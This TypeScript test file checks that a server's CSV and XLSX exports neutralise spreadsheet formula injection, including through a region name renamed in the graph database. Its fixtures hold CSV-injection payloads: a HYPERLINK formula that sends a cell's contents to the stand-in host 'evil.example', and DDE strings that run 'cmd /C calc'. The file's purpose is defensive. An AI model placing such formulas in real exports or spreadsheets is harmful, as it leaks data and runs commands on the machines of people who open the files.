// CSV and XLSX downloads never carry a formula (OWASP, CSV injection): text starting with = + - @, tab or
// CR is quote-prefixed in CSV and a plain text cell in XLSX; real numbers stay numbers. Files are read back.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { looksLikeFormula, renderTable, type ExportTable } from '../../server/export';
import { seededTestServer } from '../helpers/seededServer';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
const HOSTILE = [HYPERLINK, '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const fx = seededTestServer({ datasets: ['nantong'] });

async function readXlsx(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no worksheet');
  return sheet;
}

describe('the export helpers', () => {
  const table: ExportTable = {
    title: 'formulas',
    columns: [
      { key: 'text', header: 'text' },
      { key: 'number', header: 'number' },
    ],
    rows: [
      ...HOSTILE.map((text) => ({ text, number: -3.5 })),
      { text: '-3.5', number: 0 },
      { text: '+1e3', number: 2 },
      { text: 'a=b, 1+1, x@y', number: 7 },
    ],
  };

  it('CSV: formula-like text gets a leading single quote; numbers and ordinary text are unchanged', async () => {
    const records: string[][] = parse(await renderTable(table, 'csv'), { bom: true });
    expect(records.slice(1).map((r) => r[0])).toEqual([...HOSTILE.map((text) => `'${text}`), '-3.5', '+1e3', 'a=b, 1+1, x@y']);
    expect(records.slice(1).map((r) => r[1])).toEqual([...HOSTILE.map(() => '-3.5'), '0', '2', '7']);
  });

  it('XLSX: formula-like text is a text cell (Text format, no formula); -3.5 is a number cell', async () => {
    const sheet = await readXlsx(await renderTable(table, 'xlsx'));
    HOSTILE.forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a stored CR back as LF.
      expect(cell.value).toBe(text.replace(/\r/g, '\n'));
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
      const number = sheet.getRow(index + 2).getCell(2);
      expect(number.type).toBe(ExcelJS.ValueType.Number);
      expect(number.value).toBe(-3.5);
    });
    expect(sheet.getRow(HOSTILE.length + 2).getCell(1).numFmt ?? '').not.toBe('@');
  });

  it('tells formulas from numbers', () => {
    for (const text of HOSTILE) expect(looksLikeFormula(text), JSON.stringify(text)).toBe(true);
    for (const text of ['-3.5', '+7', '-.5', '1e-3', '-1E+3', '南通', 'x=1', '']) expect(looksLikeFormula(text), text).toBe(false);
  });
});

describe('a question downloaded with a hostile name in the graph', () => {
  beforeAll(async () => {
    // A county without a co-built park, renamed as an attacker with edit rights (or a crafted import) would.
    await fx.db.write((tx) =>
      tx.run("MATCH (r:Region {nameEn: 'Tongzhou District'}) SET r.nameZh = $zh, r.nameEn = $en", { zh: HYPERLINK, en: '@SUM(1+1)' }),
    );
  });

  it('CSV: the name arrives quote-prefixed', async () => {
    const response = await fetch(`${fx.baseUrl}/api/questions/counties-without-co-built-park?format=csv`);
    expect(response.status).toBe(200);
    const records: string[][] = parse(Buffer.from(await response.arrayBuffer()), { bom: true });
    const cells = records.flat();
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells.filter((c) => looksLikeFormula(c))).toEqual([]);
  });

  it('XLSX: the name arrives as text, never as a formula', async () => {
    const response = await fetch(`${fx.baseUrl}/api/questions/counties-without-co-built-park?format=xlsx&lang=en`);
    const sheet = await readXlsx(Buffer.from(await response.arrayBuffer()));
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const hostile = cells.find((cell) => cell.value === '@SUM(1+1)');
    expect(hostile?.type).toBe(ExcelJS.ValueType.String);
    expect(hostile?.numFmt).toBe('@');
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  });
});
